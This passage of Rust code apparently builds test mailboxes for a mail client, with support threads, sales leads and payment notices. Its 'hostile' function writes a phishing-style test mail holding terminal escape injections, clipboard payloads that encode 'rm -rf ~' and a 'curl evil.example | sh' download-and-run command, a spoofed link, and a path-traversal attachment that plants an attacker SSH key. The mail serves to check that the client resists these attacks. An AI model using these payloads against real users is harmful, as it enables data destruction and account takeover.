        let subject = encoded.unwrap_or_else(|| mime::unstructured(subject));
        h.push_str(&mime::header("Subject", &subject));
        h.push_str(&mime::header("Date", &mime::rfc5322_date(sent, person.tz)));
        h.push_str(&mime::header("Message-ID", &format!("<{mid}>")));
        thread_headers(&mut h, refs);
        render(h, content, &mut self.rng)
    }

    #[allow(clippy::too_many_arguments)]
    fn team_reply(
        &mut self,
        agent: &Agent,
        person: &Person,
        subject: &str,
        reply_text: &str,
        original: &str,
        mid: &str,
        refs: &[String],
        original_time: i64,
        t: i64,
    ) -> Vec<u8> {
        let spec = self.spec;
        let body = format!(
            "{}\n\n{}\n{}\n",
            reply_body(spec, agent, person, reply_text),
            self.attribution(original_time, &person.display()),
            mime::quote(original)
        );
        let mut h = String::new();
        h.push_str(&mime::header(
            "From",
            &mime::mailbox(spec.display, spec.address),
        ));
        if spec.on_behalf {
            // Send on Behalf (PROTOCOL.md): the agent is the Sender.
            h.push_str(&mime::header(
                "Sender",
                &mime::mailbox(agent.name, agent.email),
            ));
        }
        h.push_str(&mime::header(
            "To",
            &mime::mailbox(person.name, person.email),
        ));
        h.push_str(&mime::header("Subject", &mime::unstructured(&re(subject))));
        h.push_str(&mime::header("Date", &mime::rfc5322_date(t, 0)));
        h.push_str(&mime::header("Message-ID", &format!("<{mid}>")));
        thread_headers(&mut h, refs);
        // Only the Sent copy carries the agent; the transmitted mail did not (Send As).
        h.push_str(&mime::header("X-Mailroom-Agent", agent.id));
        render(h, Content::Plain(body), &mut self.rng)
    }

    fn received(&mut self, domain: &str, t: i64) -> String {
        let ip = format!("203.0.113.{}", self.rng.range(2, 250));
        let id = self.rng.hex(10).to_uppercase();
        mime::header(
            "Received",
            &format!(
                "from mail.{domain} (mail.{domain} [{ip}]) by mx.example.test (Postfix) with ESMTPS id {id}; {}",
                mime::rfc5322_date(t, 0)
            ),
        )
    }

    fn support_specials(&mut self) {
        let now = self.now;
        // The hostile message: every escape a terminal might obey, in proper MIME.
        self.hostile(now - 2 * DAY - 3 * HOUR);

        // Mail to the help@ alias: the reply must come from help@.
        let tom = &SUPPORT_CUSTOMERS[14];
        let text = "Hello,\n\nwhere do I send feature requests? I found this address on your\nwebsite's help page.\n\nThanks,\nTom Baker\n";
        let mid = self.message_id("mail.bakerandsons.example");
        let raw = self.customer_mail(
            tom,
            true,
            "Where do I send feature requests?",
            &mid,
            &[],
            Content::Plain(text.into()),
            now - 5 * HOUR,
        );
        self.push(
            "INBOX",
            raw,
            flags(false, false, false),
            Vec::new(),
            now - 5 * HOUR,
        );

        // An older client: ISO-8859-1, quoted-printable, Q-encoded subject.
        let francois = &SUPPORT_CUSTOMERS[4];
        let text = "Bonjour,\n\ndepuis la mise à jour, la facture de février apparaît deux fois\ndans mon espace client. Pourriez-vous vérifier ?\n\nCordialement,\nFrançois Dupont\n";
        let mid = self.message_id("mail.atelier-dupont.example");
        let raw = self.customer_mail(
            francois,
            false,
            "Problème de facturation après la mise à jour",
            &mid,
            &[],
            Content::Latin1(text.into()),
            now - 9 * DAY,
        );
        self.push(
            "INBOX",
            raw,
            flags(true, false, false),
            vec![assigned(&CAROL)],
            now - 9 * DAY,
        );

        // A long thread with Zoë, still open, assigned to Alice.
        self.zoe_thread(now - 6 * DAY);

        // The newest mail: an outage report with Cc, minutes old.
        let john = &SUPPORT_CUSTOMERS[5];
        let text = "Hi,\n\nnone of our users can log in since 10 minutes ago. Is there an\noutage? This is urgent, we have a release today.\n\nJohn Smith\nACME Corp. IT\n";
        let mid = self.message_id("mail.acme-corp.example");
        let mut raw = self.customer_mail(
            john,
            false,
            "URGENT: nobody can log in",
            &mid,
            &[],
            Content::Plain(text.into()),
            now - 7 * MINUTE,
        );
        raw = add_header(
            raw,
            "Cc",
            "\"O'Neil, Pat\" <pat.oneil@acme-corp.example>, ops@acme-corp.example",
        );
        self.push(
            "INBOX",
            raw,
            flags(false, false, true),
            Vec::new(),
            now - 7 * MINUTE,
        );

        // Team-state marks: Bob is writing a reply; one pending message is snoozed.
        if let Some(s) = self
            .seeds
            .iter_mut()
            .filter(|s| s.mailbox == "INBOX" && s.keywords.is_empty() && !s.flags.answered)
            .filter(|s| s.internal < now - HOUR && s.internal > now - 3 * DAY)
            .max_by_key(|s| s.internal)
        {
            s.keywords = vec![assigned(&BOB), "$replying.bob".to_string()];
        }
        if let Some(s) = self
            .seeds
            .iter_mut()
            .filter(|s| s.mailbox == "INBOX" && s.keywords.iter().any(|k| k == "$pending"))
            .max_by_key(|s| s.internal)
        {
            let until = (now + 2 * DAY) / (15 * MINUTE) * (15 * MINUTE);
            s.keywords
                .push(format!("$snoozed.{}", mime::utc_minute(until)));
        }
    }

    fn zoe_thread(&mut self, start: i64) {
        let zoe = &SUPPORT_CUSTOMERS[0];
        let subject = "Export bricht nach dem Update ab";
        let steps: [(bool, i64, &str); 6] = [
            (
                false,
                0,
                "Hallo,\n\nseit dem Update auf 4.2 bricht der Export nach Excel immer bei\netwa 80 % ab. Im Anhang das Protokoll.\n\nViele Grüße\nZoë Müller",
            ),
            (
                true,
                3 * HOUR,
                "danke für das Protokoll. Könnten Sie bitte testen, ob der Export\nmit einem kleineren Zeitraum (eine Woche) durchläuft?",
            ),
            (
                false,
                DAY,
                "Mit einer Woche klappt es, mit einem Monat nicht.\n\nViele Grüße\nZoë",
            ),
            (
                true,
                DAY + 2 * HOUR,
                "danke, das hilft sehr. Wir konnten den Fehler nachstellen; ein Fix\nist für die nächste Version eingeplant.",
            ),
            (
                false,
                3 * DAY,
                "Gibt es schon einen Termin für die neue Version? Unser\nMonatsabschluss steht an.\n\nZoë",
            ),
            (
                true,
                3 * DAY + HOUR,
                "die Version 4.2.2 mit dem Fix erscheint voraussichtlich Ende der\nWoche. Ich melde mich, sobald sie verfügbar ist.",
            ),
        ];
        let mut refs: Vec<String> = Vec::new();
        let mut prev_text = String::new();
        let mut prev_time = start;
        for (i, (team, offset, text)) in steps.into_iter().enumerate() {
            let t = start + offset;
            let subj = if i == 0 {
                subject.to_string()
            } else {
                re(subject)
            };
            if team {
                let mid = self.message_id("example.test");
                let raw = self.team_reply(
                    &ALICE, zoe, &subj, text, &prev_text, &mid, &refs, prev_time, t,
                );
                self.push("Sent", raw, flags(true, false, false), Vec::new(), t);
                refs.push(mid);
            } else {
                let mid = self.message_id("mail.mueller-technik.example");
                let content = if i == 0 {
                    let log = "2024-05-02 09:14:03 export started (rows=48211)\n2024-05-02 09:15:41 progress 80%\n2024-05-02 09:16:11 ERROR timeout after 30000 ms\n";
                    Content::Mixed(
                        text.to_string(),
                        vec![Part {
                            content_type: "text/plain; charset=UTF-8; name=\"export.log\"".into(),
                            disposition: "attachment; filename=\"export.log\"".into(),
                            data: log.as_bytes().to_vec(),
                        }],
                    )
                } else {
                    Content::Plain(text.to_string())
                };
                let raw = self.customer_mail(zoe, false, &subj, &mid, &refs, content, t);
                self.push(
                    "INBOX",
                    raw,
                    flags(true, true, false),
                    vec![assigned(&ALICE), "$pending".into()],
                    t,
                );
                refs.push(mid);
            }
            prev_text = text.to_string();
            prev_time = t;
        }
        // Her latest message, unanswered and unread.
        let text = "Hallo Alice,\n\ndie neue Version ist installiert, aber beim Export über ein ganzes\nQuartal kommt jetzt „Speicher voll“.\n\nViele Grüße\nZoë";
        let mid = self.message_id("mail.mueller-technik.example");
        let t = self.now - 40 * MINUTE;
        let raw = self.customer_mail(
            zoe,
            false,
            &re(subject),
            &mid,
            &refs,
            Content::Plain(text.into()),
            t,
        );
        self.push(
            "INBOX",
            raw,
            flags(false, false, false),
            vec![assigned(&ALICE)],
            t,
        );
    }

    fn hostile(&mut self, t: i64) {
        let esc = '\u{1b}';
        let bel = '\u{7}';
        let name = format!("{esc}[1;31mPayPal Security{esc}[0m{esc}]0;pwned{bel}");
        let subject = format!(
            "{HOSTILE_SUBJECT_START} {esc}[2J{esc}[H{esc}]0;HACKED{bel}{esc}]52;c;cm0gLXJmIH4K{bel}\u{9b}31m \u{202e}fdp.exe\u{202c} {esc}]8;;https://evil.example/{bel}click here{esc}]8;;{bel}"
        );
        let body = format!(
            "Dear customer,\n\n\
{esc}[31mRED ALERT{esc}[0m your account is {esc}[5mblinking{esc}[0m.\n\
{esc}]0;window title set by a mail{bel}\n\
{esc}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zaCB8IHNo{bel}(your clipboard now holds a shell command)\n\
{esc}]8;;https://evil.example/login{esc}\\https://bank.example/login{esc}]8;;{esc}\\\n\
{esc}P+q544e{esc}\\ <- DCS request for terminal capabilities\n\
\u{9b}6n <- C1 CSI asking for the cursor position\n\
NUL here:\u{0}:end\n\
pay\u{8}\u{8}\u{8}bad <- backspaces\n\
carriage\rOVERWRITTEN\n\
bidi: invoice\u{202e}fdp.exe\u{202c} and zero\u{200b}width and \u{2066}isolate\u{2069}\n\
bell {bel}{bel}{bel}\n\
{esc}[?1049h alternate screen {esc}[?1049l\n\
{esc}[8mhidden text{esc}[0m\n\
{esc}[2J{esc}[HThe screen was just cleared.\n"
        );
        let mut h = mime::header("Return-Path", "<bounce@paypa1.example>");
        h.push_str(&mime::header("Delivered-To", self.spec.address));
        h.push_str(&self.received("paypa1.example", t));
        h.push_str(&mime::header(
            "From",
            &mime::mailbox(&name, "security@paypa1.example"),
        ));
        h.push_str(&mime::header(
            "To",
            &mime::mailbox(self.spec.display, self.spec.address),
        ));
        h.push_str(&mime::header("Subject", &mime::unstructured(&subject)));
        h.push_str(&mime::header("Date", &mime::rfc5322_date(t - 30, 0)));
        h.push_str(&mime::header(
            "Message-ID",
            &format!("<{}@paypa1.example>", self.rng.hex(20)),
        ));
        let boundary = format!("=_mr_{}", self.rng.hex(16));
        h.push_str("MIME-Version: 1.0\r\n");
        h.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n"
        ));
        h.push_str(&format!("--{boundary}\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"));
        h.push_str(&encoding::base64_encode_lines(body.as_bytes()));
        // An attachment whose name tries to escape the download directory.
        h.push_str(&format!(
            "--{boundary}\r\nContent-Type: application/octet-stream; name=\"../../../.ssh/authorized_keys\"\r\n\
Content-Disposition: attachment; filename=\"../../../.ssh/authorized_keys\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        ));
        h.push_str(&encoding::base64_encode_lines(b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilKeyEvilKeyEvilKeyEvilKeyEvilKey attacker@evil\n"));
        h.push_str(&format!("--{boundary}--\r\n"));
        self.push(
            "INBOX",
            h.into_bytes(),
            flags(false, false, false),
            Vec::new(),
            t,
        );
    }

    fn sales_specials(&mut self) {
        let now = self.now;
        // Mail sent on someone's behalf (an assistant for the CEO), with Reply-To and Cc.
        let ingrid = &SALES_CUSTOMERS[0];
        let text = "Dear Sales team,\n\nIngrid asked me to follow up on the enterprise agreement. We are\nready to sign for 120 seats if the price from your last offer holds.\nPlease reply to our purchasing address.\n\nKind regards,\nOle Hansen\nAssistant to Ingrid Bjørnstad, CEO\n";
        let mid = self.message_id("mail.fjordline-logistics.example");
        let mut raw = self.customer_mail(
            ingrid,
            false,
            "Enterprise agreement – next steps",
            &mid,
            &[],
            Content::Plain(text.into()),
            now - 26 * HOUR,
        );
        raw = add_header(
            raw,
            "Sender",
            "Ole Hansen <ole.hansen@fjordline-logistics.example>",
        );
        raw = add_header(
            raw,
            "Reply-To",
            "Purchasing <purchasing@fjordline-logistics.example>",
        );
        raw = add_header(
            raw,
            "Cc",
            "=?UTF-8?B?SW5ncmlkIEJqw7hybnN0YWQ=?= <ingrid@fjordline-logistics.example>",
        );
        self.push(
            "INBOX",
            raw,
            flags(false, false, true),
            vec![assigned(&BOB)],
            now - 26 * HOUR,
        );

        // Web-form notifications: HTML only.
        let leads = [
            ("Acme GmbH", "Ines Berger", "50", 3 * HOUR),
            ("Northwind Traders", "Oscar Lind", "15", 2 * DAY + 4 * HOUR),
            ("Contoso Café", "Léa Moreau", "8", 8 * DAY),
        ];
        for (company, contact, seats, age) in leads {
            let t = now - age;
            let html = format!(
                "<!DOCTYPE html><html><head><style>td {{ padding: 4px; }} .k {{ color: #666; }}</style></head><body>\
<h2>New lead from the website</h2><table>\
<tr><td class=\"k\">Company</td><td>{company}</td></tr>\
<tr><td class=\"k\">Contact</td><td>{contact}</td></tr>\
<tr><td class=\"k\">Seats</td><td>{seats}</td></tr>\
<tr><td class=\"k\">Message</td><td>We&#39;d like a demo &amp; a quote.</td></tr></table>\
<p><a href=\"https://crm.example.test/leads/{}\">Open in CRM</a></p></body></html>",
                self.rng.hex(8)
            );
            let forms = Person {
                name: "Website Forms",
                email: "no-reply@forms.example.test",
                greet: "",
                tz: 0,
                lang: Lang::En,
            };
            let mid = self.message_id("forms.example.test");
            let raw = self.customer_mail(
                &forms,
                false,
                &format!("New lead: {company} ({seats} seats)"),
                &mid,
                &[],
                Content::Html(html),
                t,
            );
            let seen = age > DAY;
            self.push("INBOX", raw, flags(seen, false, false), Vec::new(), t);
        }
    }

    fn billing_specials(&mut self) {
        let now = self.now;
        let notices = [
            ("INV-2024-0561", "ACME Corp.", 20 * HOUR),
            ("INV-2024-0577", "Shamrock Ltd.", 4 * DAY),
            ("INV-2024-0590", "Bright Path Inc.", 12 * DAY),
        ];
        for (invoice, customer, age) in notices {
            let t = now - age;
            let html = format!(
                "<html><body style=\"font-family: sans-serif\"><div style=\"display:none\">Payment failed</div>\
<h1 style=\"color:#c00\">Payment failed</h1>\
<p>The card payment for <b>{invoice}</b> ({customer}) was declined by the issuing bank.</p>\
<p>Reason: <code>insufficient_funds</code>. We will retry in 3 days.</p>\
<p><a href=\"https://dashboard.payments.example/invoices/{invoice}\">View invoice</a></p>\
<p style=\"font-size:small\">You receive this because you are a billing contact.</p></body></html>"
            );
            let payments = Person {
                name: "Payments",
                email: "notifications@payments.example",
                greet: "",
                tz: 0,
                lang: Lang::En,
            };
            let mid = self.message_id("payments.example");
            let raw = self.customer_mail(
                &payments,
                false,
                &format!("Payment failed: {invoice}"),
                &mid,
                &[],
                Content::Html(html),
                t,
            );
            self.push(
                "INBOX",
                raw,
                flags(age > 2 * DAY, false, age < DAY),
                Vec::new(),
                t,
            );
        }
    }
}

fn reply_body(spec: &AccountSpec, agent: &Agent, person: &Person, text: &str) -> String {
    let greet = if matches!(
        person.lang,
        Lang::De | Lang::Fr | Lang::Es | Lang::Ja | Lang::Ko | Lang::Zh
    ) {
        greeting(person.lang, person.greet)
    } else {
        greeting(Lang::En, person.greet)
    };
    format!(
        "{greet}\n\n{text}\n\nBest regards,\n{}\n{} <{}>",
        agent.name, spec.display, spec.address
    )
}

fn thread_headers(h: &mut String, refs: &[String]) {
    if let Some(parent) = refs.last() {
        h.push_str(&mime::header("In-Reply-To", &format!("<{parent}>")));
        let all: Vec<String> = refs.iter().map(|r| format!("<{r}>")).collect();
        h.push_str(&mime::header("References", &all.join(" ")));
    }
}

/// Inserts a header line before the first line of the body separator.
fn add_header(raw: Vec<u8>, name: &str, value: &str) -> Vec<u8> {
    let line = mime::header(name, value);
    match raw.windows(4).position(|w| w == b"\r\n\r\n") {
        Some(i) => {
            let mut out = Vec::with_capacity(raw.len() + line.len());
            out.extend_from_slice(&raw[..i + 2]);
            out.extend_from_slice(line.as_bytes());
            out.extend_from_slice(&raw[i + 2..]);
            out
        }
        None => raw,
    }
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

fn html_of(text: &str) -> String {
    let paragraphs: Vec<String> = text
        .split("\n\n")
        .map(|p| format!("<p>{}</p>", html_escape(p).replace('\n', "<br>\n")))
        .collect();
    format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><style>p {{ margin: 0 0 1em; }}</style></head>\n<body>\n{}\n<p style=\"color:#888;font-size:small\">Sent from my web mail</p>\n</body></html>\n",
        paragraphs.join("\n")
    )
}

fn attachment_part(a: Attachment, rng: &mut Rng) -> Part {
    match a {
        Attachment::Csv(name) => {
            let mut csv = String::from("date,account,amount,currency\n");
            for i in 1..=8 {
                csv.push_str(&format!(
                    "2024-04-{i:02},ACC-{},{}.{:02},EUR\n",
                    1000 + rng.below(9000),
                    rng.below(900) + 10,
                    rng.below(100)
                ));
            }
            Part {
                content_type: format!("text/csv; charset=UTF-8; name=\"{name}\""),
                disposition: format!("attachment; filename=\"{name}\""),
                data: csv.into_bytes(),
            }
        }
        Attachment::Pdf(name) => {
            let ascii = name.is_ascii();
            // RFC 2231 for the file name, plus the RFC 2047 form Outlook writes in `name=`.
            let (ct_name, disp_name) = if ascii {
                (format!("\"{name}\""), format!("filename=\"{name}\""))
            } else {
                let pct: String = name
                    .bytes()
                    .map(|b| {
                        if b.is_ascii_alphanumeric() || b"._-".contains(&b) {
                            char::from(b).to_string()
                        } else {
                            format!("%{b:02X}")
                        }
                    })
                    .collect();
                (
                    format!(
                        "\"=?UTF-8?B?{}?=\"",
                        encoding::base64_encode(name.as_bytes())
                    ),
                    format!("filename*=UTF-8''{pct}"),
                )
            };
            Part {
                content_type: format!("application/pdf; name={ct_name}"),
                disposition: format!("attachment; {disp_name}"),
                data: fake_pdf(name).into_bytes(),
            }
        }
        Attachment::Png(name) => Part {
            content_type: format!("image/png; name=\"{name}\""),
            disposition: format!("attachment; filename=\"{name}\""),
            data: PNG_1X1.to_vec(),
        },
    }
}

/// A small, structurally plausible PDF: enough for a file type sniffer and a pager.
fn fake_pdf(title: &str) -> String {
    let title: String = title.chars().filter(char::is_ascii_alphanumeric).collect();
    format!(
        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n\
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n\
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj\n\
4 0 obj << /Length 44 >> stream\nBT /F1 12 Tf 72 770 Td ({title}) Tj ET\nendstream endobj\n\
trailer << /Root 1 0 R >>\n%%EOF\n"
    )
}

/// A 1×1 transparent PNG.
const PNG_1X1: [u8; 67] = [
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4,
    0x89, 0x00, 0x00, 0x00, 0x0A, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9C, 0x63, 0x00, 0x01, 0x00, 0x00,
    0x05, 0x00, 0x01, 0x0D, 0x0A, 0x2D, 0xB4, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44, 0xAE,
    0x42, 0x60, 0x82,
];

/// Headers (already CRLF-terminated) plus the MIME body, as one message.
fn render(mut h: String, content: Content, rng: &mut Rng) -> Vec<u8> {
    h.push_str("MIME-Version: 1.0\r\n");
    match content {
        Content::Plain(text) => {
            h.push_str("Content-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n");
            h.push_str(&mime::quoted_printable(&text));
        }
        Content::Latin1(text) => {
            h.push_str("Content-Type: text/plain; charset=ISO-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n");
            h.push_str(&mime::quoted_printable_bytes(&mime::latin1_bytes(&text)));
        }
        Content::Html(html) => {
            h.push_str("Content-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n");
            h.push_str(&mime::quoted_printable(&html));
        }
        Content::Alternative(text) => {
            let b = format!("=_alt_{}", rng.hex(16));
            h.push_str(&format!(
                "Content-Type: multipart/alternative; boundary=\"{b}\"\r\n\r\n"
            ));
            h.push_str(&format!("--{b}\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"));
            h.push_str(&mime::quoted_printable(&text));
            h.push_str(&format!("--{b}\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"));
            h.push_str(&mime::quoted_printable(&html_of(&text)));
            h.push_str(&format!("--{b}--\r\n"));
        }
        Content::Mixed(text, parts) => {
            let b = format!("=_mix_{}", rng.hex(16));
            h.push_str(&format!("Content-Type: multipart/mixed; boundary=\"{b}\"\r\n\r\nThis is a multi-part message in MIME format.\r\n\r\n"));
            h.push_str(&format!("--{b}\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"));
            h.push_str(&mime::quoted_printable(&text));
            for part in parts {
                h.push_str(&format!("--{b}\r\n"));
                h.push_str(&mime::header("Content-Type", &part.content_type));
                h.push_str(&mime::header("Content-Disposition", &part.disposition));
                h.push_str("Content-Transfer-Encoding: base64\r\n\r\n");
                h.push_str(&encoding::base64_encode_lines(&part.data));
            }
            h.push_str(&format!("--{b}--\r\n"));
        }
    }
    h.into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_bounded_by_now() {
        let now = 1_715_670_753;
        for spec in &ACCOUNTS {
            let a = account_seeds(spec, now);
            let b = account_seeds(spec, now);
            assert_eq!(a.len(), b.len());
            assert!(a.iter().zip(&b).all(|(x, y)| x.raw == y.raw));
            assert!(
                a.iter()
                    .all(|s| s.internal <= now && s.internal > now - SPAN - 7 * DAY)
            );
            assert!(
                a.iter()
                    .all(|s| s.raw.windows(2).all(|w| w[1] != b'\n' || w[0] == b'\r'))
            );
        }
    }
}
